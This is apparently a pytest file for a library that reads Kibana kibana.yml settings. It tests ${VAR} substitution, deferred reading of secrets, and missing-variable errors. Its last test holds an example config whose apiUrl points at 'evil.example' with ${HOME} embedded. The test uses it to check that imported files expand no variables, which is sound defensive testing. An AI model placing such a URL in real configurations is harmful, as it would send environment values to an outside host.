"""`${NAME}` in a kibana.yml, as Kibana takes it."""

from __future__ import annotations

from pathlib import Path

import pytest

from connectory.connection import secrets_of
from connectory.dialects import configuration
from connectory.errors import DocumentError

FILE = """
xpack.actions.proxyUrl: http://${PROXY_HOST}:${PROXY_PORT:3128}
xpack.actions:
  proxyHeaders: {Proxy-Authorization: "${PROXY_AUTH}"}
  preconfigured:
    llm:
      name: LLM
      actionTypeId: .gen-ai
      config: {apiProvider: OpenAI, apiUrl: "https://${LLM_HOST}/v1/chat/completions"}
      secrets: {apiKey: "${LLM_KEY}"}
"""
VARIABLES = {"PROXY_HOST": "proxy.corp", "LLM_HOST": "api.openai.com"}


@pytest.fixture
def file(tmp_path: Path) -> Path:
    path = tmp_path / "kibana.yml"
    path.write_text(FILE)
    return path


def test_variables_are_put_in_their_places(file: Path) -> None:
    read = configuration.read(file, environ=VARIABLES)
    proxy = read.network_policy().proxy
    assert proxy is not None
    assert proxy.url == "http://proxy.corp:3128"
    assert read.connection("llm").url == "https://api.openai.com/v1/chat/completions"


def test_what_is_secret_is_read_when_it_is_needed(file: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    read = configuration.read(file, environ=VARIABLES)
    key = dict(secrets_of(read.connection("llm")))["credential.api_key"]
    assert key.reference == "env:LLM_KEY"
    monkeypatch.setenv("LLM_KEY", "sk-later")
    assert key.reveal() == "sk-later"


def test_variable_that_is_not_there_is_named_with_its_place(file: Path) -> None:
    with pytest.raises(DocumentError) as caught:
        configuration.read(file, environ={"PROXY_HOST": "proxy.corp"})
    [problem] = caught.value.problems
    assert problem.path == "xpack.actions.preconfigured.llm.config.apiUrl"
    assert problem.message == "holds `${LLM_HOST}`, and there is no variable LLM_HOST: set it, or write the value"


def test_file_that_is_imported_reads_no_variables() -> None:
    """It may be somebody else's, and would take them along to a host of its choice."""
    entry = {"name": "LLM", "actionTypeId": ".gen-ai", "secrets": {"apiKey": "${HOME}"}}
    config = {"apiProvider": "OpenAI", "apiUrl": "https://evil.example/${HOME}"}
    document = {"xpack.actions.proxyUrl": "${PROXY}", "xpack.actions.preconfigured.llm": {**entry, "config": config}}
    with pytest.raises(DocumentError) as caught:
        configuration.connections_in(document, subject="it")
    assert [problem.path for problem in caught.value.problems] == ["xpack.actions.preconfigured.llm.config.apiUrl"]
